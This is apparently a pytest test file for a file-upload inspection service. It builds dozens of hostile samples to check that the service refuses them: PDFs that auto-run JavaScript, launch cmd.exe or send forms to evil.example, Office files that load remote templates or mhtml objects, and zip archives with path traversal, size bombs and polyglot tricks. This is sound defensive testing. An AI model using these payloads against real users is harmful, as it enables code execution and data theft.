"""Content of files, for every way to read them: documents that run something, archives that lie, and good files."""

import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from PIL import Image, PngImagePlugin

from familycorp_ops.servers.ministack import MiniStack
from familycorp_ops.servers.valkey import Valkey
from support import crafted
from support.contract import breaks, ok, problem
from support.crafted import MACROS, PAGE, SCRIPT, object_stream, package, related, stream, written
from support.stack import Stack, make_category, published
from support.uploading import (
    DOCX,
    announce,
    archive,
    complete,
    docx,
    hwp,
    hwpx,
    pdf,
    photo,
    saved,
    send,
    uploaded,
)

Make = Callable[[], bytes]
PDF, ZIP = "application/pdf", "application/zip"


@pytest.fixture(scope="module")
def stack(ministack: MiniStack, valkey: Valkey, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    stack = Stack(tmp_path_factory.mktemp("inspection"), ministack, valkey)
    stack.prepare().start()
    with stack.client() as client:
        make_category(client, "news")
    yield stack
    stack.close()


@pytest.fixture
def client(stack: Stack) -> Iterator[httpx.Client]:
    with stack.client() as client:
        yield client


def outcome(client: httpx.Client, content: bytes, name: str, kind: str) -> str:
    """Upload a file; return its state, or the reason of its rejection."""
    answer = uploaded(client, content, name, kind)
    if answer.status_code == 200:
        return str(answer.json()["state"])
    return str(problem(answer, 422, "upload_rejected")["errors"][0]["rule"])


AT_ONCE = b"/OpenAction "
ADDRESS = b"<< /S /URI /URI (https://evil.example) >>"
SCRIPTED = b"<t><script/></t>"


def linking(action: bytes, *more: bytes) -> bytes:
    return written(*more, page=PAGE[:-2] + b"/Annots [<< /Subtype /Link /A << " + action + b" >> >>] >>")


def hiding(*more: bytes, trailer: bytes = b"/Root 9 0 R") -> bytes:
    """Write a PDF, one stream of which holds a catalogue for readers that search the file."""
    catalogue = b"9 0 obj " + crafted.catalogue(AT_ONCE + SCRIPT)
    return written(stream(b"\n" + catalogue + b" endobj\ntrailer << " + trailer + b" >>\n"), *more)


FORM = b'<xdp:xdp xmlns:xdp="urn:xdp"><template xmlns="urn:t"><%s/></template></xdp:xdp>'
RUNNING: dict[str, Make] = {
    "the last of two": lambda: written(root=b"/OpenAction [3 0 R /Fit] /OpenAction " + SCRIPT),
    "the first of two": lambda: written(root=AT_ONCE + SCRIPT + b" /OpenAction [3 0 R /Fit]"),
    "two trees of names": lambda: written(
        root=b"/Names << >> /Names << /JavaScript << /Names [(a) " + SCRIPT + b"] >> >>"
    ),
    "the last root of a trailer": lambda: written(
        crafted.catalogue(AT_ONCE + SCRIPT), trailer=b"/Root 5 0 R"
    ),
    "a jump to a page": lambda: written(
        root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
        page=PAGE[:-2] + b"/AA << /O " + SCRIPT + b" >> >>",
    ),
    "a widget": lambda: written(
        page=PAGE[:-2] + b"/Annots [<< /Subtype /Widget /AA << /PV " + SCRIPT + b" >> >>] >>"
    ),
    "a link": lambda: written(page=PAGE[:-2] + b"/Annots [<< /Subtype /Link /A " + SCRIPT + b" >>] >>"),
    "a bookmark": lambda: written(b"<< /Title (a) /A 6 0 R >>", SCRIPT, root=b"/Outlines 5 0 R"),
    "an object that nothing refers to": lambda: written(SCRIPT),
    "an escaped name": lambda: written(root=AT_ONCE + b"<< /S /J#61vaScript /J#53 (1) >>"),
    "an escaped key": lambda: written(b"<< /S /URI /URI (https://a.example) >>", root=b"/Open#41ction 5 0 R"),
    "a name in an object of its own": lambda: written(
        b"/JavaScript", b"(app.alert(1))", root=AT_ONCE + b"<< /S 5 0 R >>"
    ),
    "between comments": lambda: written(root=AT_ONCE + b"%%EOF\n<</S%>>\r/JavaScript/JS%)\n(1)>>"),
    "after a string with parentheses": lambda: written(
        b"<< /T (((((deep \\( endobj))))) /A " + SCRIPT + b" >>"
    ),
    "a launched program": lambda: written(root=AT_ONCE + b"<< /S /Launch /F (cmd.exe) >>"),
    "a launched program behind a link": lambda: written(
        page=PAGE[:-2] + b"/Annots [<< /A << /S /Launch /Win << /F (cmd.exe) >> >> >>] >>"
    ),
    "an address when it is opened": lambda: written(
        b"<< /S /URI /URI (https://evil.example) >>", root=AT_ONCE + b"5 0 R"
    ),
    "an address when a page is shown": lambda: written(
        b"<< /O 6 0 R >>", b"<< /S /SubmitForm /F (https://evil.example) >>", page=PAGE[:-2] + b"/AA 5 0 R >>"
    ),
    "another file when it is opened": lambda: written(root=AT_ONCE + b"<< /S /GoToR /F (//evil/a.pdf) >>"),
    "an attached file": lambda: written(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
    "imported data": lambda: written(b"<< /S /ImportData /F (a.fdf) >>"),
    "a rendition": lambda: written(b"<< /S /Rendition /JS 6 0 R >>", stream(b"app.alert(1)")),
    "a second step": lambda: written(root=AT_ONCE + b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"),
    "an address of a script": lambda: written(
        page=PAGE[:-2] + b"/Annots [<< /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>] >>"
    ),
    "Flash": lambda: written(page=PAGE[:-2] + b"/Annots [<< /Subtype /RichMedia >>] >>"),
    "a view of three dimensions": lambda: written(
        stream(b"U3D", b"/Type /3D /OnInstantiate 6 0 R"), stream(b"1")
    ),
    "a key without a value": lambda: written(root=b"/Lang /OpenAction 5 0R"),
    "an older revision": lambda: crafted.updated(written(root=AT_ONCE + SCRIPT), 1, crafted.catalogue()),
    "a newer revision": lambda: crafted.updated(written(), 1, crafted.catalogue(AT_ONCE + SCRIPT)),
    "a compressed catalogue": lambda: crafted.xref_stream_pdf(crafted.catalogue(AT_ONCE + SCRIPT)),
    "an object stream": lambda: written(object_stream(SCRIPT)),
    "a stream of another type": lambda: written(object_stream(SCRIPT, b"/Type /XObject")),
    "a stream of no type": lambda: written(object_stream(SCRIPT, b"")),
    "hexadecimal": lambda: written(object_stream(SCRIPT, filters="AHx")),
    "several filters": lambda: written(object_stream(SCRIPT, filters="Fl AHx")),
    "run lengths": lambda: written(object_stream(SCRIPT, filters="RL")),
    "LZW": lambda: written(object_stream(SCRIPT, filters="LZW")),
    "a predictor": lambda: written(crafted.predicted(SCRIPT)),
    "a table that leads into a stream": lambda: crafted.pointing(
        stream(b"BT (7 0 obj) Tj\n5 0 obj " + SCRIPT + b" endobj"), b"5 0 obj <<"
    ),
    "a table that leads into a string": lambda: crafted.pointing(
        b"(5 0 obj << /S /JavaScript /JS 6 0 R >> endobj)", b"5 0 obj <<"
    ),
    "a table that leads into a comment": lambda: crafted.pointing(
        b"%5 0 obj " + SCRIPT + b" endobj\nnull", b"5 0 obj <<"
    ),
    "a stream of a file without a table": lambda: written(stream(b"5 0 obj " + SCRIPT + b" endobj")).replace(
        b"startxref", b"startxxxx"
    ),
    "a word for an object that is no such": lambda: written(b"null\nendobj\n7 0obj" + SCRIPT),
    "a form's script": lambda: written(stream(FORM % b"script"), root=b"/AcroForm << /XFA 5 0 R >>"),
    "a form's script in pieces": lambda: written(
        stream((FORM % b"script")[:60]),
        stream((FORM % b"script")[60:]),
        root=b"/AcroForm << /XFA [(a) 5 0 R (b) 6 0 R] >>",
    ),
    "a form's compressed script": lambda: written(
        stream(zlib.compress(FORM % b"script"), b"/Filter /FlateDecode"), root=b"/AcroForm << /XFA 5 0 R >>"
    ),
    "a form's script with a prefix in UTF-16": lambda: written(
        stream(FORM.replace(b"<%s/>", b'<x:script xmlns:x="urn:t"/>').decode().encode("utf-16")),
        root=b"/AcroForm << /XFA 5 0 R >>",
    ),
    "a line break in an address": lambda: linking(b"/S /URI /URI (java\\nscript:alert)"),
    "an address in an object of its own": lambda: linking(b"/S /URI /URI 5 0 R", b"(javascript:alert)"),
    "what precedes every address": lambda: written(root=b"/URI << /Base (javascript:) >>"),
    "an address after what is no key": lambda: linking(b"1 /S /URI /URI (javascript:alert)"),
    "a form that is sent to a script": lambda: linking(b"/S /SubmitForm /F (javascript:alert)"),
    "a root that is no object": lambda: hiding().replace(b"/Root 1 0 R", b"/Root 8 0 R"),
    "a root that is no catalogue": lambda: hiding(b"null").replace(b"/Root 1 0 R", b"/Root 6 0 R"),
    "a root that was freed": lambda: crafted.updated(hiding(), 1, crafted.catalogue()).replace(
        b" 00000 n \ntrailer\n<< /Size 9", b" 00001 f \ntrailer\n<< /Size 9"
    ),
    "pages that are no object": lambda: hiding().replace(b"/Pages 2 0 R", b"/Pages 8 0 R", 1),
    "pages that nobody counted": lambda: hiding().replace(b"/Count 2", b"/Other 2"),
    "another generation": lambda: hiding().replace(b"00000 n", b"00001 n"),
    "places counted from the file's begin": lambda: crafted.shifted(hiding()),
    "a table that nothing leads to": lambda: crafted.updated(hiding(), 6, b"null").replace(
        b"/Prev", b"/Other"
    ),
    "a table that a comment leads to": lambda: hiding().replace(b"%%EOF", b"%startxref\n0\n%%EOF"),
    "a trailer in a stream": lambda: written(
        stream(b"\ntrailer << /Root << /Pages 2 0 R " + AT_ONCE + SCRIPT + b" >> >>")
    ).replace(b"startxref\n", b"startxref\n9"),
    "a reference with a sign": lambda: written(ADDRESS, page=PAGE[:-2] + b"/AA << /O +5 0 R >> >>"),
    "a reference with a fraction": lambda: written(ADDRESS, page=PAGE[:-2] + b"/AA << /O 5.0 0 R >> >>"),
    "a form's script without its name": lambda: written(
        stream(SCRIPTED), root=b"/AcroForm << /XFA [5 0 R] >>"
    ),
    "a form's script by a reference with a sign": lambda: written(
        stream(SCRIPTED), root=b"/AcroForm << /XFA [(a) +5 0 R] >>"
    ),
    "the last type of an action after what is no key": lambda: written(
        root=AT_ONCE + b"<< 1 /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example) >>"
    ),
    "a name on which another object begins": lambda: written(
        stream(b"7 0 8 5 /Launch", b"/Type /ObjStm /N 2 /First 8")
    ),
    "a form that sends itself": lambda: written(stream(FORM % b"submit"), root=b"/AcroForm << /XFA 5 0 R >>"),
}


@pytest.mark.security(36)
@pytest.mark.parametrize("name", RUNNING)
def test_a_document_that_runs_something_is_refused_for_every_way_to_read_it(
    client: httpx.Client, name: str
) -> None:
    assert outcome(client, RUNNING[name](), "a.pdf", PDF) == "active_content"


@pytest.mark.security(36)
@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda: written(root=b"/PageMode /UseNone /PageMode /UseOutlines"), "malformed"),
        (lambda: written(trailer=b"/Encrypt 5 0 R"), "encrypted"),
        (lambda: crafted.updated(written(), 5, b"null", b"/Encrypt 5 0 R"), "encrypted"),
        (
            lambda: written(stream(b"not deflated", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")),
            "malformed",
        ),
        (lambda: written(object_stream(b" " * 17_000_000)), "malformed"),
        (lambda: written() + b"\0" * 3000 + b"<script>", "polyglot"),
        (lambda: written().replace(b"3 0 obj", b"<html><script>1</script>\n3 0 obj"), "polyglot"),
        (lambda: written().replace(b"3 0 obj", b"%<svg onload=1>\n3 0 obj"), "polyglot"),
        (lambda: b"<html>" + written(), "type_mismatch"),
        (lambda: written(b"[" * 100_000), "too_complex"),
        (lambda: written(b"[" + b"1 " * 2_000_000 + b"]"), "too_complex"),
    ],
)
def test_a_document_that_readers_would_read_differently_is_refused(
    client: httpx.Client, make: Make, reason: str
) -> None:
    assert outcome(client, make(), "a.pdf", PDF) == reason


def with_text(text: bytes) -> bytes:
    return written(
        stream(b"BT (" + text + b") Tj ET"),
        b"<< /Title (" + text + b") >>",
        page=PAGE[:-2] + b"/Contents 5 0 R >>",
    )


GOOD_PDFS: dict[str, Make] = {
    "plain": written,
    "from an object stream": lambda: crafted.xref_stream_pdf(crafted.catalogue()),
    "updated": lambda: crafted.updated(written(), 3, PAGE),
    "about scripts": lambda: with_text(b"/OpenAction << /S /JavaScript /JS (x) >> and /Launch"),
    "about objects": lambda: with_text(b"7 0 obj << /S /JavaScript /JS \\(x\\) >> endobj"),
    "about pages of the web": lambda: with_text(b"<html><body><script> and <!doctype html>"),
    "a note on pages of the web": lambda: written(
        page=PAGE[:-2] + b"/Annots [<< /Subtype /Text /Contents (<html><body>) >>] >>"
    ),
    "2,000 zeros": lambda: written() + bytes(2000),
    "the end of a file of DOS": lambda: written() + b"\x1a",
    "an updated text about objects": lambda: crafted.updated(
        with_text(b"7 0 obj << /S /JavaScript /JS \\(x\\) >> endobj trailer"), 3, PAGE
    ),
    "80,000 zeros": lambda: written() + bytes(80_000),
    "a byte-order mark": lambda: b"\xef\xbb\xbf" + written(),
    "lines before its header": lambda: b"\r\n\n" + written(),
    "opened at a page": lambda: written(root=b"/OpenAction << /S /GoTo /D [4 0 R /Fit] >>"),
    "opened at a place": lambda: written(root=b"/OpenAction [3 0 R /XYZ null null 0]"),
    "with links": lambda: written(
        page=PAGE[:-2]
        + b"/Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.familycorp.example) >> >>] >>"
    ),
    "with a font of a telling name": lambda: written(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        page=PAGE[:-2] + b"/Resources << /Font << /AA 5 0 R >> >> >>",
    ),
    "with an unscripted form": lambda: written(
        stream(FORM % b"subform"), root=b"/AcroForm << /Fields [] /XFA 5 0 R >>"
    ),
    "without a table that fits": lambda: written().replace(b"startxref\n", b"startxref\n9"),
    "with an attachment": lambda: pdf(padding=3_000),
}


@pytest.mark.parametrize("name", GOOD_PDFS)
def test_a_document_that_runs_nothing_is_taken(client: httpx.Client, name: str) -> None:
    assert outcome(client, GOOD_PDFS[name](), "보고서.pdf", PDF) == "clean"


def iso() -> bytes:
    return bytes(32769) + b"CD001" + bytes(100)


LYING: dict[str, tuple[Make, str]] = {
    "more than it says": (lambda: crafted.claiming(100, 500_000), "archive_bomb"),
    "less than it says": (lambda: crafted.claiming(600, 500), "malformed"),
    "more than its directory says": (
        lambda: crafted.patched(archive({"a": bytes(9999)}), {}, {24: struct.pack("<I", 99)}),
        "malformed",
    ),
    "another checksum": (
        lambda: crafted.patched(archive({"a": b"hello"}, 0), {14: b"abcd"}, {16: b"abcd"}),
        "malformed",
    ),
    "another method": (lambda: crafted.patched(archive({"a": b"hello"}), {8: b"\0\0"}, {}), "malformed"),
    "another flag": (lambda: crafted.patched(archive({"a": b"hello"}), {6: b"\1\0"}, {}), "malformed"),
    "a link": (crafted.linked, "unsafe_path"),
    "a link of another system": (lambda: crafted.linked(0o120777, 0), "unsafe_path"),
    "a device": (lambda: crafted.linked(0o060666), "unsafe_path"),
    "a link in an extra field": (
        lambda: crafted.with_extra("a", struct.pack("<HH4s", 0x756E, 4, b"abcd")),
        "unsafe_path",
    ),
    "a path in its own header": (lambda: crafted.renamed_locally(b"../../etc/passwd"), "unsafe_path"),
    "another name in its own header": (lambda: crafted.renamed_locally(b"b"), "malformed"),
    "a path for Unicode": (lambda: crafted.unicode_path("a.txt", b"../../etc/passwd"), "unsafe_path"),
    "a drive": (lambda: archive({"C:/a.txt": b"a"}), "unsafe_path"),
    "a drive below": (lambda: archive({"a/C:b.txt": b"a"}), "unsafe_path"),
    "backslashes": (lambda: archive({"..\\..\\a.txt": b"a"}), "unsafe_path"),
    "dots with a space": (lambda: archive({".. /a.txt": b"a"}), "unsafe_path"),
    "an absolute path": (lambda: archive({"/etc/passwd": b"a"}), "unsafe_path"),
    "an archive by another name": (lambda: archive({"a.dat": archive({"a": b"a"})}), "nested_archive"),
    "an archive with a dot": (lambda: archive({"a.zip.": b"a"}), "nested_archive"),
    "an archive with a space": (lambda: archive({"a.ZIP ": b"a"}), "nested_archive"),
    "an empty archive": (lambda: archive({"a.dat": b"PK\5\6" + bytes(18)}), "nested_archive"),
    "an archive as a document": (lambda: archive({"a.docx": archive({"a": b"a"})}), "nested_archive"),
    "7-Zip": (lambda: archive({"a.dat": b"7z\xbc\xaf\x27\x1c" + bytes(90)}), "nested_archive"),
    "RAR": (lambda: archive({"a.txt": b"Rar!\x1a\x07\1\0" + bytes(90)}), "nested_archive"),
    "gzip": (lambda: archive({"a.txt": zlib.compress(b"a", wbits=31)}), "nested_archive"),
    "tar": (lambda: archive({"a.txt": b"a" * 257 + b"ustar\x0000" + bytes(200)}), "nested_archive"),
    "bzip2": (lambda: archive({"a.txt": b"BZh91AY&SY" + bytes(90)}), "nested_archive"),
    "tar of 1979": (lambda: archive({"a.txt": crafted.old_tar()}), "nested_archive"),
    "a Debian package": (lambda: archive({"a.txt": b"!<arch>\ndebian-binary   "}), "nested_archive"),
    "an ISO image": (lambda: archive({"a.txt": iso()}, 0), "nested_archive"),
    "macros in a document in it": (
        lambda: archive({"a.docx": docx(word__vbaProject_bin=b"x")}),
        "active_content",
    ),
    "two of a name": (lambda: archive({"a.txt": b"a", "A.TXT": b"b"}), "malformed"),
    "an entry beside the directory": (crafted.hidden_entry, "polyglot"),
    "something before": (lambda: b"MZ" + archive({"a": b"a"}), "type_mismatch"),
    "something after": (lambda: archive({"a": b"a"}) + b"<html>", "polyglot"),
    "something after the comment": (lambda: crafted.commented(b"hello") + b"x", "polyglot"),
    "two ends": (
        lambda: crafted.commented(b"PK\5\6" + bytes(18)),
        "polyglot",
    ),
}


@pytest.mark.security(38)
@pytest.mark.parametrize("name", LYING)
def test_an_archive_that_lies_is_refused(client: httpx.Client, name: str) -> None:
    make, reason = LYING[name]
    assert outcome(client, make(), "a.zip", ZIP) == reason


GOOD_ARCHIVES: dict[str, Make] = {
    "commented": lambda: crafted.commented("창립 40주년 자료".encode()),
    "streamed": lambda: crafted.streamed({"a.txt": b"a" * 1000, "보고서.txt": b"b"}),
    "of documents": lambda: archive(
        {"보고서.docx": docx(), "공문.hwpx": hwpx(), "공문.hwp": hwp(), "a.pdf": written()}
    ),
    "with folders": lambda: archive({"가/": b"", "가/나.txt": b"a", "./b.txt": b"a"}),
    "with dots": lambda: archive({"..a/b...txt": b"a", "c..": b"a"}),
    "with a field for Unicode": lambda: crafted.unicode_path("a.txt", "보고서.txt".encode()),
    "named in CP949": lambda: crafted.named("가나.txt", "마바.txt", "다라/사.txt", encoding="cp949"),
    "with odd modes": lambda: crafted.linked(0o177777),
}


@pytest.mark.parametrize("name", GOOD_ARCHIVES)
def test_an_archive_with_a_true_directory_is_accepted(client: httpx.Client, name: str) -> None:
    assert outcome(client, GOOD_ARCHIVES[name](), "자료.zip", ZIP) == "clean"


COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le")
ENTITY = '<!DOCTYPE t [<!ENTITY m "macroEnabled">]>'
LOADING: dict[str, Make] = {
    "a template": lambda: related("attachedTemplate", "https://evil.example/a.dotm"),
    "a template in UTF-16": lambda: related(
        "attachedTemplate", "https://evil.example/a.dotm", encoding="utf-16"
    ),
    "a template that is not called external": lambda: related(
        "attachedTemplate", "https://evil.example/a", ""
    ),
    "a template on another machine": lambda: related("attachedTemplate", "\\\\evil\\a.dotm", ""),
    "a mode in other letters": lambda: related("attachedTemplate", "a.dotm", ' TargetMode="eXternal"'),
    "an escaped type": lambda: related("attached&#84;emplate", "a.dotm"),
    "an object": lambda: related("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/b"),
    "a frame": lambda: related("frame", "https://evil.example/"),
    "a part of a document": lambda: related("subDocument", "file:///a.docx"),
    "a schema": lambda: related("attachedSchema", "https://evil.example/"),
    "a part in HTML": lambda: related("aFChunk", "chunk.html", ""),
    "a template by a name in percents": lambda: package(
        parts={
            "word/_rels/settings.xml.rel%73": crafted.relationships(
                "attachedTemplate", "https://evil.example/a"
            )
        }
    ),
    "a picture from a program": lambda: related("image", "search-ms:query=a"),
    "a picture on another machine": lambda: related("image", "file://evil/a.png"),
    "a type of macros as an entity": lambda: package(
        f'<Default ContentType="{MACROS.replace("E", "&#69;")}"/>'
    ),
    "a type of macros in other letters": lambda: package(f'<Default ContentType="{MACROS.upper()}"/>'),
    "a type of macros in UTF-16": lambda: package(f'<Default ContentType="{MACROS}"/>', encoding="utf-16"),
    "entities": lambda: package('<Default ContentType="a.&m;"/>', declared=ENTITY),
    "macros by another name": lambda: package(parts={"word/media/a.png": COMPOUND}),
    "macros by their relationship": lambda: related("vbaProject", "a.bin", ""),
    "macros in a document in it": lambda: package(
        parts={"word/embeddings/a.xlsx": package(parts={"xl/vbaProject.bin": b"x"})}
    ),
}


@pytest.mark.security(36)
@pytest.mark.parametrize("name", LOADING)
def test_an_office_document_that_loads_or_runs_something_is_refused(client: httpx.Client, name: str) -> None:
    assert outcome(client, LOADING[name](), "a.docx", DOCX) == "active_content"


def test_an_office_document_with_links_pictures_and_charts_is_taken(client: httpx.Client) -> None:
    for content in (
        related("hyperlink", "https://www.familycorp.example/"),
        related("image", "https://www.familycorp.example/a.png"),
        related("image", "file:///C:/Users/kim/a.png"),
        package(encoding="utf-16"),
        package(
            parts={"word/embeddings/a.xlsx": package(), "word/media/a.emz": zlib.compress(b"a", wbits=31)}
        ),
    ):
        assert outcome(client, content, "회의록.docx", DOCX) == "clean"


def commented_photo(comment: bytes) -> bytes:
    content = photo(60, 40)
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + content[2:]


def annotated(**texts: str) -> bytes:
    told = PngImagePlugin.PngInfo()
    for key, value in texts.items():
        told.add_text(key, value)
    return saved(Image.new("RGB", (9, 9)), "PNG", pnginfo=told)


def test_what_text_in_a_picture_says_is_no_markup(client: httpx.Client) -> None:
    for content, name, kind in (
        (commented_photo(b"exported from <svg>"), "a.jpg", "image/jpeg"),
        (annotated(Description="<svg onload=1> <html>"), "a.png", "image/png"),
        (saved(Image.new("P", (9, 9)), "GIF", comment=b"<html><script>"), "a.gif", "image/gif"),
    ):
        assert outcome(client, content, name, kind) == "clean"
    assert outcome(client, commented_photo(b"%PDF-1.7 1 0 obj"), "a.jpg", "image/jpeg") == "polyglot"


@pytest.mark.parametrize(
    ("name", "told", "kind", "make"),
    [
        ("공문.hwp", "", "application/x-hwp", hwp),
        ("공문.HWP", "application/haansofthwp", "application/x-hwp", hwp),
        ("공문.hwpx", "application/octet-stream", "application/vnd.hancom.hwpx", hwpx),
        ("자료.zip", "application/x-zip-compressed", ZIP, lambda: archive({"a": b"a"})),
        ("회의록.docx", "", DOCX, docx),
        ("회의록.docx", "application/msword", DOCX, docx),
        ("사진.jfif", "image/jpg", "image/jpeg", lambda: photo(60, 40)),
        ("사진.JPG", "image/pjpeg", "image/jpeg", lambda: photo(60, 40)),
        ("사진.jpe", "image/jpeg; charset=binary", "image/jpeg", lambda: photo(60, 40)),
        ("보고서.PDF", "application/x-pdf", PDF, written),
        ("보고서.pdf", "text/html", PDF, written),
    ],
)
def test_a_file_s_name_and_content_decide_its_type(
    client: httpx.Client, name: str, told: str, kind: str, make: Make
) -> None:
    content = make()
    upload = ok(announce(client, content, name, told, purpose="attachment"), 201)
    assert upload["contentType"] == kind
    assert upload["form"]["fields"]["Content-Type"] == kind
    assert send(upload["form"], content).status_code == 204
    assert ok(complete(client, upload))["contentType"] == kind
    post = published(client, attachments=[upload["id"]])
    assert post["attachments"][0]["contentType"] == kind
    answer = client.get(f"/v1/posts/{post['id']}/attachments/{upload['id']}")
    assert httpx.get(answer.headers["Location"], trust_env=False).headers["Content-Type"] == kind


def test_a_client_may_leave_the_type_out(client: httpx.Client) -> None:
    content = written()
    body: dict[str, Any] = {
        "name": "a.pdf",
        "size": len(content),
        "sha256": "0" * 64,
        "purpose": "attachment",
    }
    headers = {"X-Test-Subject": "kim", "X-Test-Role": "editor"}
    assert ok(client.post("/v1/uploads", json=body, headers=headers), 201)["contentType"] == PDF
    breaks(
        client.post("/v1/uploads", json=body | {"purpose": "image"}, headers=headers),
        ("body.contentType", "type_not_allowed"),
    )


@pytest.mark.security(37)
@pytest.mark.parametrize(
    "name",
    [
        *(
            f"a{chr(c)}b.pdf"
            for c in (0x200E, 0x200F, 0x61C, 0x200B, 0x200D, 0xAD, 0xFEFF, 0x2060, 0x3164, 0xE0041)
        ),
        *("CON.pdf", "nul .pdf", "Com1.tar.pdf", "LPT¹.pdf"),
        *("a/b.pdf", "a\\b.pdf", ".pdf", "　.pdf"),
    ],
)
def test_a_name_that_can_t_be_shown_or_saved_is_refused(client: httpx.Client, name: str) -> None:
    breaks(announce(client, b"x", name, PDF), ("body.name", "file_name"))


def test_turned_text_and_halves_of_characters_are_no_name(client: httpx.Client) -> None:
    for mark in (0x202A, 0x202E, 0x2066, 0x2069, 0x0A, 0x2028):
        breaks(announce(client, b"x", f"a{chr(mark)}b.pdf", PDF), ("body.name", "forbidden_character"))
    body = b'{"name": "a\\ud800.pdf", "size": 1, "sha256": "%s", "purpose": "attachment"}' % (b"0" * 64)
    headers = {"X-Test-Subject": "kim", "X-Test-Role": "editor", "Content-Type": "application/json"}
    assert client.post("/v1/uploads", content=body, headers=headers).status_code in {400, 422}


def test_names_that_people_give_are_kept(client: httpx.Client) -> None:
    for name in (
        "연혁 ① 「40주년」~(최종)_v2.pdf",
        "Contract – final.pdf",
        "보고서／요약.pdf",
        "❤️ 사진.pdf",
        "葛󠄀.pdf",
        "com.pdf",
    ):
        assert ok(announce(client, b"x", name, PDF), 201)["name"] == name


def test_a_download_of_an_old_name_has_nothing_hidden(stack: Stack, client: httpx.Client) -> None:
    upload = ok(uploaded(client, written(), "ab.pdf", PDF))
    stack.sql("UPDATE attachments SET name = :n WHERE name = 'ab.pdf'", n="a\u200fb\u202e\r\n.pdf")
    post = published(client, attachments=[upload["id"]])
    link = client.get(f"/v1/posts/{post['id']}/attachments/{upload['id']}").headers["Location"]
    got = httpx.get(link, trust_env=False).headers["Content-Disposition"]
    assert got == "attachment; filename=\"ab.pdf\"; filename*=UTF-8''ab.pdf"


def test_the_command_goes_by_the_name_too(stack: Stack) -> None:
    for name, content in (("공문.hwp", hwp()), ("회의록.docx", docx()), ("사진.JFIF", photo(60, 40))):
        file = stack.directory / name
        file.write_bytes(content)
        stack.run("-m", "familycorp_ops", "upload", str(file))
    rows = stack.sql("SELECT content_type, state FROM uploads WHERE owner = 'system' ORDER BY content_type")
    assert rows == [
        ("application/vnd." + DOCX.partition("vnd.")[2], "clean"),
        ("application/x-hwp", "clean"),
        ("image/jpeg", "clean"),
    ]
